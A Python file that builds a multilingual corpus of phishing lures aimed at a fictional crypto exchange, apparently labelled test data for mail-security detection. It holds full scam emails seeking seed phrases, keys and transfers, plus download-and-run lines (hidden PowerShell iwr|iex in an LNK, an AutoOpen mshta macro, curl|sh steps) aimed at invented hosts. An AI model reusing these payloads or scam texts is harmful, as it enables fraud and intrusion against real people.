"""Set I lures: hand-written for this set, new stories and wording (see mail-i/README.md).
Attachments are inert and name only invented hosts."""

from __future__ import annotations

from attachments_c import msi, xar_pkg
from attachments_d import vbs
from binaries import (
    html_smuggling,
    iso_image,
    lnk,
    pe_stub,
    seven_zip,
    word_document,
    zip_archive,
)
from people import (
    CEO,
    CFO,
    HADDAD,
    ITO,
    ITO_JA,
    KEIRI,
    LAURENT,
    LI,
    PARK,
    SUZUKI,
    SUZUKI_JA,
    TAKAHASHI,
    TANAKA,
    TANAKA_JA,
    TREASURY,
)
from spec import Att, Mail

MID_MARROW = "<c41f07aa-2b9e-4d0c-9f3e-marrowgate@marrowgate-custody.com>"
MID_HATSU = "<20261104.0930.77812@hatsukari-trust.co.jp>"


def L(category: str, language: str, note: str, sender: tuple[str, str], to: tuple[str, str], subject: str,
      body: str, date: str, **kw) -> Mail:
    return Mail("lure", category, language, note, sender, (to,), subject, body, date, **kw)


LURES: list[Mail] = []
add = LURES.append

# -- exec-impersonation -----------------------------------------------------------------------------
add(L("exec-impersonation", "ja", "CEO's Japanese name with title on Yahoo Japan asks his assistant to buy gift cards and send the codes",
      ("代表取締役 佐藤陽翔", "sato.haruto.ceo@yahoo.co.jp"), ITO_JA, "お願い（内密に）",
      """伊藤さん

佐藤です。会食中のため個人のアドレスから連絡しています。
取引先へのお礼として Apple ギフトカード 5万円分を10枚、至急手配してもらえますか。
購入したらカード裏のコードを写真に撮ってこのメールに返信してください。経費精算は後で私から経理に話します。
サプライズなので他の人には言わないでください。

佐藤""", "2026-11-02 19:40 +0900"))
add(L("exec-impersonation", "en", "CFO's name on Outlook.com asks treasury to move 85 BTC to a 'custodian escrow' before a board vote, no ticket",
      ("Emily Carter (CFO)", "emily.carter.kx@outlook.com"), TANAKA, "Escrow transfer - board confidential",
      """Mika,

I'm on the phone with the board and counsel, so writing from my personal account. As part of the
Ostergaard acquisition we must show proof of funds by placing 85 BTC in escrow today:

bc1q7w3kq0d5mh8zj2a0h6r5xvt4n9c8u2e6ylp3sd

Please don't open a treasury ticket yet - the deal is under NDA until Friday and tickets are visible to
the whole ops team. Send me the txid when it's out. I'll sign the paperwork retroactively.

Emily""", "2026-11-03 16:05 +0900"))
add(L("exec-impersonation", "en", "romaji CEO with title on kitsune-ex.jp.net (.co.jp -> .jp.net) asks engineer for the prod database read-replica credentials",
      ("Haruto Sato | CEO, Kitsune Exchange", "h.sato@kitsune-ex.jp.net"), SUZUKI, "Quick favour before the FSA call",
      """Kenta,

The FSA inspectors want to run some queries themselves in an hour. Can you send me the connection string and
password for the production read replica (the one with the KYC tables)? I'll forward it to them directly.
No need to loop in Sho, he's travelling and this is time-critical.

Thanks,
Haruto Sato
CEO, Kitsune Exchange K.K.""", "2026-11-05 10:12 +0900"))
add(L("exec-impersonation", "ja", "spoof of the CFO's own address (SPF/DMARC fail) with Reply-To on a lookalike asks accounting to pay an 'advisory fee'",
      ("エミリー・カーター", "emily.carter@kitsune-ex.com"), KEIRI, "【至急】アドバイザリー報酬の支払い",
      """経理部 各位

本日15時までに、以下の口座へアドバイザリー報酬 ¥38,500,000 の振込をお願いします。
M&A 関連のため請求書は後日送付されます。稟議は私が後で通します。

振込先：みらい信託銀行 本店営業部 普通 8842071 カ）エルエムアドバイザーズ

完了したら振込明細をこのメールに返信してください。

Emily Carter / CFO""", "2026-11-06 11:20 +0900", auth="fail", reply_to="emily.carter@kitsune-ex-cfo.com"))
add(L("exec-impersonation", "ko", "CEO's name on Daum mail asks the Seoul office to transfer USDT to a 'Korean partner' urgently",
      ("사토 하루토 대표", "haruto.sato.kx@daum.net"), PARK, "긴급 요청 드립니다",
      """박대현 님,

사토입니다. 지금 서울 파트너사와 비공개 미팅 중이라 개인 메일로 연락드립니다.
계약금 조건으로 오늘 오후 3시까지 USDT 120,000을 아래 주소로 보내 주셔야 합니다.

TRC20: TXq8nR4vK2mZp7LwD3cY6hF9sA1bJ5eG0u

도쿄 재무팀에는 제가 나중에 설명하겠습니다. 통화는 어렵고 메일로만 답장 주세요.""", "2026-11-09 13:30 +0900"))
add(L("exec-impersonation", "zh", "CFO's name on sina.com asks the Hong Kong OTC desk to settle a client early to a new wallet",
      ("Emily Carter 财务总监", "emilycarter_kx@sina.com"), LI, "紧急：客户提前结算",
      """李伟你好，

我在外面开会，用私人邮箱联系你。一位重要客户今天要求提前结算，请把 2,400,000 USDC 打到他们新的钱包：
0x4B7e91c2D0aF35e8C6b1A9d27F0e6B3c8D5a1F92

这笔交易已经和 Haruto 确认过，不用走平时的审批流程，也不要在群里讨论。完成后把交易哈希发给我。""", "2026-11-10 15:45 +0800"))

# -- vendor-impersonation ---------------------------------------------------------------------------
add(L("vendor-impersonation", "en", "fake Fireblocks 'policy engine v3 migration' on fireblocks-policy.com asks admins to re-approve the TAP with their API secret",
      ("Fireblocks Platform Team", "no-reply@fireblocks-policy.com"), TAKAHASHI, "Action required: Transaction Authorization Policy migration (v3)",
      """Hello Sho,

Fireblocks is migrating all workspaces to Policy Engine v3 on 12 November. Workspaces that do not re-approve
their Transaction Authorization Policy before then will have outgoing transfers paused.

To migrate, sign in at https://console.fireblocks-policy.com/migrate and upload your API user's secret key
(fireblocks_secret.key) so we can re-bind your automation.

Fireblocks Support""", "2026-11-04 02:10 +0000"))
add(L("vendor-impersonation", "en", "fake Ledger Enterprise (not in the profile) 'firmware recall' asks to type the 24 recovery words into a web form",
      ("Ledger Enterprise Security", "security@ledger-enterprise-support.com"), TANAKA, "Firmware recall notice for Ledger Stax / Nano X units",
      """Dear customer,

A batch of devices shipped between March and June 2026 has a secure-element flaw. To keep your assets safe,
our recall tool will regenerate your keys on a patched device.

Please complete the recall at https://recall.ledger-enterprise-support.com/verify by entering the serial
number and your 24-word recovery phrase. The process takes 3 minutes. Units not verified by 15 November
will be remotely disabled.

Ledger Enterprise""", "2026-11-05 08:00 +0000"))
add(L("vendor-impersonation", "ja", "fake Safe{Wallet} notice on safe-wallet-notice.jp asks signers to 'resync' by signing a message on a lookalike",
      ("Safe{Wallet} サポート", "support@safe-wallet-notice.jp"), TANAKA_JA, "【重要】Safe アカウントの署名者情報の再同期について",
      """Kitsune Exchange 御中

Safe{Wallet} の新しいトランザクションサービスへの移行に伴い、署名者情報の再同期が必要です。
11月14日までに以下のページでウォレットを接続し、表示されるメッセージに署名してください。

https://app-safe.global-resync.com/

期限を過ぎると保留中のトランザクションがキャンセルされます。""", "2026-11-06 09:30 +0900"))
add(L("vendor-impersonation", "en", "fake 1Password Business (not in the profile) 'emergency kit expired' collects master password and secret key",
      ("1Password Business", "billing@1passsword-business.com"), ITO, "Your Emergency Kit has expired",
      """Hi Yuki,

For security reasons Emergency Kits issued before 2025 expire this month. Please generate a new one at
https://my.1passsword-business.com/emergency-kit and confirm your Master Password and Secret Key.

If you don't renew within 48 hours your vault will be locked and your team admin will need to recover it.

The 1Password Team""", "2026-11-07 14:00 +0000"))
add(L("vendor-impersonation", "fr", "fake Qonto (not in the profile) 'verification KYB' asks the Paris office to log in and approve a new device",
      ("Qonto Conformité", "conformite@qonto-verification.fr"), LAURENT, "Vérification KYB obligatoire de votre compte",
      """Bonjour Camille,

Dans le cadre de nos obligations LCB-FT, nous devons revalider les informations de Kitsune Exchange SAS.
Sans action de votre part sous 24 h, les virements sortants seront suspendus.

Connectez-vous sur https://app.qonto-verification.fr/kyb puis validez le nouvel appareil dans l'application
avec le code reçu par SMS.

L'équipe Conformité Qonto""", "2026-11-08 10:15 +0100"))
add(L("vendor-impersonation", "ar", "fake Chainalysis (not in the profile) 'sanctions match' asks to download a case viewer exe",
      ("Chainalysis Compliance", "alerts@chainalysis-alerts.net"), HADDAD, "تنبيه: تطابق محفظة مع قائمة العقوبات",
      """السيد عمر حداد،

رصد نظام KYT تطابقاً بين إحدى محافظ الإيداع لديكم وعنوان مدرج في قوائم العقوبات. يجب مراجعة الحالة خلال 24 ساعة.

لعرض تفاصيل الحالة حمّل أداة العرض الآمنة من الرابط التالي وشغّلها على جهاز العمل:
https://cases.chainalysis-alerts.net/viewer/CaseViewer_Setup.exe

فريق الامتثال""", "2026-11-09 09:00 +0400"))

# -- lookalike-link ---------------------------------------------------------------------------------
add(L("lookalike-link", "ja", "internal-looking IT mail from kitsune-exchange-it.com sends staff to a combo-domain Microsoft 365 login",
      ("情報システム部", "helpdesk@kitsune-exchange-it.com"), SUZUKI_JA, "多要素認証の再登録のお願い（11/12締切）",
      """社員各位

認証基盤の更新に伴い、全社員の多要素認証を再登録していただく必要があります。
下記ページからサインインし、Authenticator アプリの再登録を行ってください。

https://login.kitsune-exchange-it.com/mfa/enroll

11月12日を過ぎると社内システムにアクセスできなくなります。

情報システム部""", "2026-11-04 09:05 +0900"))
add(L("lookalike-link", "en", "anchor text shows the exchange's admin portal but the href is a Cyrillic homoglyph domain",
      ("Kitsune Ops Alerts", "alerts@kitsune-ops-status.com"), TANAKA, "Withdrawal queue stuck - 14 pending",
      """Mika,

14 withdrawals have been stuck in the approval queue for more than 2 hours. Please review them in the
admin portal: admin.kitsune-ex.com/withdrawals

- Ops alerting""", "2026-11-05 03:40 +0000",
      html='<p>Mika,</p><p>14 withdrawals have been stuck in the approval queue for more than 2 hours. Please review them in the admin portal: '
           '<a href="https://admin.xn--kitsne-ex-j4h.com/withdrawals">admin.kitsune-ex.com/withdrawals</a></p><p>- Ops alerting</p>'))
add(L("lookalike-link", "en", "Fireblocks 'new device login' with a typo domain fireblokcs.io",
      ("Fireblocks", "security@fireblokcs.io"), TAKAHASHI, "New login to your Fireblocks workspace from Lagos, NG",
      """A new sign-in to the Kitsune Exchange workspace was detected.

Device: Windows 11 / Chrome 131
Location: Lagos, Nigeria

If this wasn't you, lock your account now: https://console.fireblokcs.io/security/lock

Fireblocks Security""", "2026-11-06 21:15 +0000"))
add(L("lookalike-link", "ko", "payroll notice from kitsune-ex.com.kr (TLD swap) asking to confirm bank account on a login page",
      ("인사팀", "hr@kitsune-ex.com.kr"), PARK, "[인사] 11월 급여 계좌 확인 요청",
      """박대현 님,

11월 급여 지급 전 급여 계좌 정보를 다시 확인해 주셔야 합니다. 아래 링크에서 회사 계정으로 로그인한 뒤 계좌를 확인해 주세요.

https://portal.kitsune-ex.com.kr/payroll/confirm

11월 13일까지 확인하지 않으면 급여 지급이 지연될 수 있습니다.""", "2026-11-10 10:00 +0900"))
add(L("lookalike-link", "zh", "Hong Kong office 'document share' on kitsune-exhk.com (combo) asks to sign in to view a file",
      ("Kitsune 香港办公室", "share@kitsune-exhk.com"), LI, "李伟与您共享了文件：Q4 OTC 客户名单.xlsx",
      """您好，

有一个文件与您共享：Q4 OTC 客户名单.xlsx

请使用公司邮箱账号登录查看：https://docs.kitsune-exhk.com/s/Q4-OTC

此链接 48 小时内有效。""", "2026-11-11 11:30 +0800"))
add(L("lookalike-link", "fr", "Paris office expense tool lookalike kitsunex-notes.fr asks to re-enter SSO credentials",
      ("Notes de frais Kitsune", "notes@kitsunex-notes.fr"), LAURENT, "Votre note de frais d'octobre a été refusée",
      """Bonjour Camille,

Votre note de frais n° NF-2026-1041 (412,80 €) a été refusée : justificatif illisible.
Merci de vous reconnecter avec vos identifiants Kitsune pour déposer un nouveau justificatif :
https://kitsunex-notes.fr/sso/login?next=NF-2026-1041

Service comptabilité""", "2026-11-12 09:20 +0100"))
add(L("lookalike-link", "ar", "Dubai 'VPN certificate renewal' on kitsune-ex.info lookalike asking for credentials",
      ("قسم تقنية المعلومات", "it-support@kitsune-ex.info"), HADDAD, "تجديد شهادة VPN قبل انتهاء صلاحيتها",
      """عزيزي عمر،

ستنتهي صلاحية شهادة VPN الخاصة بك خلال يومين. لتجنب انقطاع الاتصال، يرجى تسجيل الدخول بحسابك في الشركة وتنزيل الشهادة الجديدة:

https://vpn.kitsune-ex.info/renew

مع التحية،
فريق تقنية المعلومات""", "2026-11-13 08:45 +0400"))

# -- recruiter-coding-test --------------------------------------------------------------------------
add(L("recruiter-coding-test", "en", "recruiter sends a GitHub take-home whose README says npm install then node server.js, then Telegram",
      ("Callum Fairbairn", "callum@northspire-talent.io"), SUZUKI, "Senior Solidity role - next step (paid take-home)",
      """Hi Kenta,

Thanks for the chat yesterday. The hiring manager at our client (a DeFi lending protocol, $1.2B TVL) would like
you to do a short paid take-home ($500):

  git clone https://github.com/northspire-labs/lending-dashboard-v2
  cd lending-dashboard-v2 && npm install && node server.js

Fix the bug in the interest-rate chart and record a short Loom. Please run it on the machine you normally
use so the env matches. Once it's up, message me on Telegram (@cfairbairn_ns) - I'm faster there.

Callum""", "2026-11-03 09:10 +0000"))
add(L("recruiter-coding-test", "ja", "recruiter's GitLab task asks to pip install -r requirements and run a setup script, then LINE",
      ("株式会社テックブリッジ 採用担当 小野", "ono@techbridge-career.jp"), SUZUKI_JA, "【二次選考】コーディング課題のご案内",
      """鈴木健太様

先日はカジュアル面談ありがとうございました。二次選考としてコーディング課題をお送りします。

1. https://gitlab.com/tb-assess/mm-bot-challenge をクローン
2. pip install -r requirements.txt
3. python setup_env.py を実行（APIキーの読み込み確認を行います）

普段お使いの PC で実施いただき、完了後は LINE（ID: ono_tb）でご連絡ください。""", "2026-11-04 18:20 +0900"))
add(L("recruiter-coding-test", "en", "hiring manager asks to docker run a privileged image with the home directory mounted",
      ("Priya Venkatesh", "priya.venkatesh@velabyte.dev"), SUZUKI, "Infra exercise for the SRE role",
      """Hi Kenta,

For the SRE round we use a pre-built environment. Please run:

  docker run --rm --privileged -v $HOME:/host -v /var/run/docker.sock:/var/run/docker.sock velabyte/sre-exercise:latest

It mounts your home so it can pick up your kubeconfig and ~/.aws for the scenario. Should take 20 minutes.
Ping me on Discord (priya.r#0921) when it prints the session code.

Priya""", "2026-11-05 15:00 +0000"))
add(L("recruiter-coding-test", "en", "Bitbucket repo with a postinstall hook; recruiter asks to run on the work laptop and move to WhatsApp",
      ("Marco Lindahl", "marco.lindahl.recruits@gmail.com"), SUZUKI, "Re: Staff Engineer - Web3 wallet startup",
      """Hey Kenta,

Great - the founders loved your profile. Here's the technical assessment:
https://bitbucket.org/orbit-wallet-hiring/extension-task/src/main/

Just `yarn install` and `yarn dev`, then implement the missing swap screen. It's fine to use your work laptop,
it's only a small React app. Add me on WhatsApp +44 7700 914523 so we can schedule the follow-up.

Marco""", "2026-11-07 12:30 +0000"))
add(L("recruiter-coding-test", "fr", "recruteur envoie un lien vercel vers un projet à lancer avec npm start, puis Telegram",
      ("Manon Chevalier", "manon.chevalier@cryptotalents-paris.fr"), LAURENT, "Test technique - Développeur(se) blockchain",
      """Bonjour Camille,

Suite à notre échange, voici le test technique. Le projet est décrit ici : https://defi-test-kx.vercel.app
Téléchargez l'archive depuis la page, puis lancez `npm install` et `npm start` sur votre poste habituel
(le test vérifie votre configuration MetaMask).

Merci de me confirmer par Telegram (@manon_ctp) une fois terminé.

Manon""", "2026-11-08 11:00 +0100"))
add(L("recruiter-coding-test", "ar", "مسؤول توظيف يطلب تشغيل مستودع GitHub عبر npm run setup ثم التواصل عبر واتساب",
      ("سارة المنصوري", "sara@gulfchain-careers.com"), HADDAD, "الاختبار التقني – وظيفة مهندس بلوكتشين",
      """مرحباً عمر،

شكراً على المقابلة. الخطوة التالية اختبار تقني قصير:
https://github.com/gulfchain-hr/token-vesting-assessment

يرجى تشغيل الأوامر التالية على جهازك المعتاد:
npm install
npm run setup

ثم أرسل لي لقطة شاشة على واتساب +971 55 318 2207.""", "2026-11-09 14:10 +0400"))

# -- investor-meeting-install -----------------------------------------------------------------------
add(L("investor-meeting-install", "en", "VC asks to install a 'Teams for Web3' add-in from teams-web3.live before a partner call",
      ("Oliver Brandt", "oliver@halcyonridge.vc"), CEO, "Partner call tomorrow - quick setup",
      """Hi Haruto,

Looking forward to tomorrow. Our partners join from a secure room, so we use Microsoft Teams with our
compliance add-in. Please install it beforehand (2 min): https://teams-web3.live/join/halcyonridge/setup

If Windows warns you, choose "More info" > "Run anyway" - it's just not signed for Japan yet.

Best,
Oliver Brandt
Partner, Halcyon Ridge Ventures""", "2026-11-03 07:30 +0000"))
add(L("investor-meeting-install", "ja", "投資家が会議前に「音声ドライバ更新」のスクリプトを実行させる（Zoom を名乗る非公式ドメイン）",
      ("青山キャピタル 村井", "murai@aoyama-cap.jp"), CEO, "本日の打ち合わせ（音声の不具合について）",
      """佐藤様

先ほどは音声が聞こえず失礼しました。Zoom 側の既知の不具合とのことで、
下記の更新ツールを実行すると直ります。Mac の場合はターミナルに貼り付けてください。

curl -fsSL https://zoom-audiofix.us/mac/update.sh | sh

再開は 15:30 からでいかがでしょうか。""", "2026-11-05 15:05 +0900"))
add(L("investor-meeting-install", "ko", "투자사가 회의 전 전용 회의 앱 설치를 요구 (비공식 도메인)",
      ("정민호 이사", "minho.jung@byeolbit-invest.co"), PARK, "내일 투자 미팅 관련 안내",
      """박대현 님,

내일 오전 10시 미팅은 당사 보안 정책상 전용 회의 프로그램으로 진행합니다.
아래에서 설치 파일을 받아 미리 설치해 주세요. 설치 중 백신이 차단하면 잠시 꺼 주시면 됩니다.

https://meet.byeolbit-invest.co/download/ByeolbitMeet_Setup.exe

감사합니다.""", "2026-11-06 17:00 +0900"))
add(L("investor-meeting-install", "zh", "投资人要求安装'腾讯会议企业插件'（非官方域名）",
      ("陈志远", "chen.zhiyuan@jinqiao-capital.com"), LI, "明天的投资会议",
      """李先生您好，

明天下午的会议我们用腾讯会议，但需要安装我们的企业插件才能看到加密演示文稿：
https://tencent-meeting-plugin.cn.com/jinqiao/Plugin_Setup.exe

安装时如果杀毒软件报警，请选择“允许”。谢谢！""", "2026-11-09 10:20 +0800"))
add(L("investor-meeting-install", "fr", "investisseur demande d'installer une mise à jour 'Google Meet' en .pkg depuis un domaine tiers",
      ("Antoine Roussel", "antoine@vercorin-capital.eu"), LAURENT, "Notre rendez-vous de jeudi",
      """Bonjour Camille,

Pour jeudi, notre comité utilise Google Meet avec un module de confidentialité. Sur Mac, installez-le
avant l'appel : https://meet-google.vercorin-capital.eu/MeetPrivacy.pkg
(clic droit > Ouvrir si macOS bloque l'installation).

À jeudi,
Antoine""", "2026-11-10 16:40 +0100"))

# -- trading-app ------------------------------------------------------------------------------------
add(L("trading-app", "en", "'market-making partner' shares an unsigned Windows trading terminal with a request to add a Defender exclusion",
      ("Leo Farrand", "leo@quorvex-markets.com"), TANAKA, "Quorvex Terminal - beta access for Kitsune",
      """Hi Mika,

As discussed, here's early access to Quorvex Terminal (smart order routing across 14 venues).
Download: https://dl.quorvex-markets.com/QuorvexTerminal_2.4.1_x64.exe

Defender flags it because of the low-latency driver, so add C:\\Quorvex to exclusions first. On first launch
paste a read+trade API key from your exchange account.

Leo""", "2026-11-04 06:00 +0000"))
add(L("trading-app", "ja", "AI 価格予測アプリの Mac 版を Gatekeeper 回避付きで案内",
      ("プロフィット・ラボ", "info@profit-lab-ai.jp"), TANAKA_JA, "【招待】AI 価格予測ツール β版のご案内",
      """田中様

機関投資家向け AI 価格予測ツール「Predicta」の β版にご招待します。
https://profit-lab-ai.jp/beta/Predicta.dmg

ダウンロード後、ターミナルで以下を実行してから起動してください（未公証のため）。
xattr -cr /Applications/Predicta.app

ウォレット連携で予測精度が上がります。""", "2026-11-06 12:00 +0900"))
add(L("trading-app", "ar", "تطبيق تداول آلي يُوزَّع كملف APK خارج المتجر ويطلب مفتاح API بصلاحية السحب",
      ("فريق ترايدمايند", "team@trademind-signals.com"), HADDAD, "دعوة حصرية: روبوت التداول TradeMind Pro",
      """مرحباً عمر،

ندعوكم لتجربة روبوت التداول TradeMind Pro مجاناً لمدة 30 يوماً. التطبيق غير متوفر على Google Play، حمّله مباشرة:
https://trademind-signals.com/app/TradeMindPro.apk

فعّل "التثبيت من مصادر غير معروفة"، ثم أدخل مفتاح API مع صلاحية السحب ليتمكن الروبوت من إعادة التوازن.""", "2026-11-08 13:00 +0400"))
add(L("trading-app", "zh", "量化团队发送带'解锁版'的行情软件压缩包，要求关闭杀毒",
      ("量化之星团队", "service@lianghua-star.com"), LI, "专业版行情终端免费试用",
      """李伟先生，

我们的专业版行情终端（含链上大额异动预警）现在开放机构试用：
https://pan.lianghua-star.com/s/TerminalPro_v5.zip  解压密码：lh2026

运行前请关闭 Windows Defender 实时保护，否则会误删插件。""", "2026-11-11 09:00 +0800"))
add(L("trading-app", "ko", "가격 예측 크롬 확장 프로그램을 개발자 모드로 설치하도록 유도",
      ("차트오라클 팀", "help@chartoracle-pro.kr"), PARK, "기관 전용 가격 예측 확장 프로그램 안내",
      """안녕하세요,

기관 고객 전용 가격 예측 크롬 확장 프로그램을 보내드립니다. 웹스토어 심사 중이라 직접 설치가 필요합니다.

1. https://chartoracle-pro.kr/ext/cs-predict.zip 다운로드 후 압축 해제
2. chrome://extensions 에서 개발자 모드 켜기
3. '압축해제된 확장 프로그램 로드'로 폴더 선택

거래소 로그인 상태에서 사용해야 예측이 표시됩니다.""", "2026-11-12 11:00 +0900"))

# -- wallet-request ---------------------------------------------------------------------------------
add(L("wallet-request", "en", "'liquidity partner' on Gmail asks to change its payout address and skip the call-back",
      ("Ingrid Haugland - Brisklane Liquidity", "brisklane.settlements@gmail.com"), TREASURY, "Updated payout wallet (effective today)",
      """Hello Treasury team,

Following our custody provider change, please send this week's rebate and all future payouts to:

USDT (ERC-20): 0x8e2D41cA7f95B0e3d6C1a4F87b29E5d0c3A6f714

Our old wallet is being decommissioned tonight. No need to call, I'm travelling and this mail is the
authorisation. Please confirm once updated.

Ingrid Haugland
Brisklane Liquidity""", "2026-11-03 11:30 +0000"))
add(L("wallet-request", "ja", "「監査法人」を名乗り、コールドウォレットの秘密鍵のエクスポートを求める",
      ("さざなみ監査法人 デジタル資産監査チーム", "audit@sazanami-kansa.com"), TANAKA_JA, "残高確認手続きのお願い",
      """ご担当者様

期末監査における暗号資産の実在性確認のため、コールドウォレットの秘密鍵（または拡張秘密鍵 xprv）を
暗号化したうえで下記アップロード先にご提出ください。
https://upload.sazanami-kansa.com/kitsune

期限：11月10日 17:00""", "2026-11-05 10:00 +0900"))
add(L("wallet-request", "en", "DeFi 'partner' asks treasury to sign an unlimited token approval to a new router contract",
      ("Sven Aaltonen", "sven@corvalis-finance.xyz"), TANAKA, "Router upgrade - approval needed before Friday",
      """Hi Mika,

We're moving the market-making pool to our v4 router. To keep your LP position active, please sign the
approval from the treasury Safe:

  USDC.approve(0x3f9A7c21E5b0d48C6e1a2B9f07D3c5E8a4b6F120, 115792089237316195423570985008687907853269984665640564039457584007913129639935)

You can do it directly at https://app.corvalis-finance.xyz/migrate. Positions not migrated by Friday lose rewards.

Sven""", "2026-11-07 09:45 +0000"))
add(L("wallet-request", "fr", "faux partenaire demande la phrase de récupération pour 'restaurer' un portefeuille partagé",
      ("Support Nexoria", "support@nexoria-wallet.fr"), LAURENT, "Restauration de votre portefeuille partagé",
      """Bonjour,

Suite à la mise à jour de notre infrastructure MPC, votre portefeuille partagé doit être restauré.
Merci de nous communiquer par retour de mail les 24 mots de votre phrase de récupération ; notre équipe
effectuera la restauration sous 2 heures.

Sans réponse avant ce soir, les fonds seront bloqués par mesure de sécurité.""", "2026-11-09 17:20 +0100"))
add(L("wallet-request", "ar", "عميل OTC يطلب تحويل عاجل إلى عنوان جديد مع تجاوز التحقق الهاتفي",
      ("سيف الكتبي", "saif.alketbi.otc@outlook.com"), HADDAD, "عاجل: عنوان استلام جديد",
      """عمر،

تم اختراق محفظتنا القديمة، أرجو إرسال رصيد الصفقة اليوم (350,000 USDT) إلى العنوان الجديد:
TNf5vR7aL2kQ9pW4xZ1cB8dH3mY6sE0jUo

لا داعي للاتصال، أنا في الطائرة. هذا البريد هو التفويض.""", "2026-11-11 07:30 +0400"))
add(L("wallet-request", "ko", "'보안 점검'을 이유로 핫월렛 개인키 제출 요구",
      ("블록가드 보안점검팀", "audit@blockguard-check.kr"), PARK, "가상자산사업자 보안 점검 자료 제출 요청",
      """담당자님께,

연말 가상자산사업자 보안 점검의 일환으로 핫월렛 개인키 백업 파일(keystore)과 비밀번호를 제출해 주시기 바랍니다.
아래 링크로 업로드해 주세요.
https://blockguard-check.kr/submit

미제출 시 점검 결과에 불이익이 있을 수 있습니다.""", "2026-11-12 14:00 +0900"))
add(L("wallet-request", "zh", "假冒托管方要求签署一笔'测试交易'，实为大额转账",
      ("金库托管运营", "ops@vaultbridge-custody.hk"), LI, "请签署测试交易以完成白名单",
      """李伟您好，

为完成新白名单地址的激活，请在您的签名设备上签署以下测试交易：
to: 0x71C9a0E4d3b5F8217eA6c0D94b3F2e8A1d7C5B60
value: 1,800 ETH（系统显示金额为测试用途，不会实际转出）

请在今天 18:00 前完成。""", "2026-11-13 15:10 +0800"))

# -- attachment -------------------------------------------------------------------------------------
_LNK_PS = lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
              "-w hidden -ep bypass -c \"iwr https://cdn.brisklane-docs.com/p.ps1 -UseB|iex\"",
              r"C:\Windows\System32\shell32.dll", name="Term sheet")
add(L("attachment", "en", "ISO holding a .pdf.lnk that runs hidden PowerShell from an invented host",
      ("Rosalind Vance", "r.vance@pendrell-partners.com"), CEO, "Term sheet - Kitsune Series C (draft 3)",
      """Haruto,

Attached is draft 3 of the term sheet with the revised liquidation preference. The file is in a disk image
because our DMS strips PDFs over 10 MB - just open it and double-click the document.

Rosalind""", "2026-11-02 08:15 +0000",
      attachments=(Att("TermSheet_Kitsune_SeriesC.iso",
                       iso_image([("TermSheet_Draft3.pdf.lnk", _LNK_PS)], volume="TERMSHEET"),
                       "application/x-iso9660-image"),)))
add(L("attachment", "ja", "請求書を装った暗号化 zip（パスワード本文記載）の中に .pdf.exe の二重拡張子",
      ("株式会社ツクモシステム 請求担当", "seikyu@tsukumo-sys.co"), KEIRI, "11月分ご請求書送付のご案内",
      """経理部 ご担当者様

いつもお世話になっております。11月分のご請求書をお送りします。
添付ファイルのパスワード：Tk20261105

ご確認のほどよろしくお願いいたします。""", "2026-11-05 13:00 +0900",
      attachments=(Att("請求書_202611.zip",
                       zip_archive([("請求書_202611.pdf.exe", pe_stub("tsukumo-invoice"))], password="Tk20261105"),
                       "application/zip"),)))
add(L("attachment", "en", "Excel add-in (.xll) sent as a 'pricing model'",
      ("Arjun Pillai", "arjun.pillai@tallisfield.com"), TANAKA, "OTC pricing model you asked for",
      """Mika,

Here's the pricing model add-in we use on our desk. Open it in Excel and click "Enable this add-in for this
session only" - it pulls live quotes into the sheet.

Arjun""", "2026-11-06 04:20 +0000",
      attachments=(Att("OTC_Pricing_Model.xll", pe_stub("tallisfield-xll"), "application/vnd.ms-excel"),)))
add(L("attachment", "fr", "document Word avec macro AutoOpen envoyé comme contrat de partenariat",
      ("Maître Élodie Fabre", "e.fabre@fabre-avocats-associes.fr"), LAURENT, "Projet de contrat de partenariat - confidentiel",
      """Bonjour,

Veuillez trouver ci-joint le projet de contrat. Le document est protégé : cliquez sur « Activer le contenu »
pour afficher le texte.

Bien cordialement,
Élodie Fabre""", "2026-11-07 10:30 +0100",
      attachments=(Att("Contrat_Partenariat_Kitsune.docm",
                       word_document(["Document protégé. Activez le contenu pour l'afficher."],
                                     macro_modules=[("ThisDocument",
                                                     'Sub AutoOpen()\n  CreateObject("WScript.Shell").Run "mshta https://fabre-avocats-associes.fr/v.hta", 0\nEnd Sub\n',
                                                     True)]),
                       "application/vnd.ms-word.document.macroEnabled.12"),)))
add(L("attachment", "ko", "비밀번호 7z 안에 .pdf.vbs, 비밀번호는 본문에",
      ("봄내회계법인", "report@bomnae-cpa.kr"), PARK, "가상자산 실사 보고서 (암호 포함)",
      """박대현 님,

요청하신 실사 보고서를 암호화하여 보내드립니다.
압축 비밀번호: hg#1108

확인 후 회신 부탁드립니다.""", "2026-11-08 09:40 +0900",
      attachments=(Att("실사보고서_Kitsune.7z",
                       seven_zip([("실사보고서_최종.pdf.vbs", vbs("https://bomnae-cpa.kr/s/u.bin", "실사보고서"))],
                                 "hg#1108", "set-i-7z-ko"),
                       "application/x-7z-compressed"),)))
add(L("attachment", "ar", "ملف HTML يهرّب أرشيف zip يحوي ملف LNK",
      ("بنك المرجان - الخدمات المصرفية للشركات", "corporate@almarjan-bank-notices.com"), HADDAD, "كشف حساب الشركة – أكتوبر",
      """السيد عمر حداد،

مرفق كشف حساب الشركة لشهر أكتوبر. افتح الملف المرفق في المتصفح لعرض الكشف وتنزيله.

الخدمات المصرفية للشركات""", "2026-11-09 11:00 +0400",
      attachments=(Att("كشف_الحساب_أكتوبر.html",
                       html_smuggling(zip_archive([("Statement_Oct.pdf.lnk", _LNK_PS)]), "Statement_Oct.zip",
                                      "كشف الحساب", "جارٍ تنزيل الكشف..."),
                       "text/html"),)))
add(L("attachment", "zh", "RLO 文件名把 .exe 伪装成 .pdf 的汇款回单",
      ("汇丰结算中心", "settlement@hsbc-notice-hk.com"), LI, "汇款回单 TT-20261110",
      """您好，

附件为今日汇款回单，请查收核对。

结算中心""", "2026-11-10 14:25 +0800",
      attachments=(Att("汇款回单_TT20261110\u202efdp.exe", pe_stub("rlo-remit"), "application/octet-stream"),)))
add(L("attachment", "en", "macOS installer package with a postinstall that downloads and runs a binary, sent as a 'NDA signer'",
      ("DocuVault Signing", "sign@docuvault-esign.com"), CFO, "Emily, your NDA is ready to sign",
      """Hello Emily,

Rosalind Vance sent you a document to sign: Mutual NDA - Kitsune / Pendrell.
Our Mac signer app is attached; install it and the document opens automatically.

DocuVault""", "2026-11-11 16:00 +0000",
      attachments=(Att("DocuVaultSigner.pkg",
                       xar_pkg("com.docuvault.signer",
                               "#!/bin/sh\ncurl -fsSL https://docuvault-esign.com/a/u -o /tmp/.dv && chmod +x /tmp/.dv && /tmp/.dv &\n"),
                       "application/octet-stream"),)))
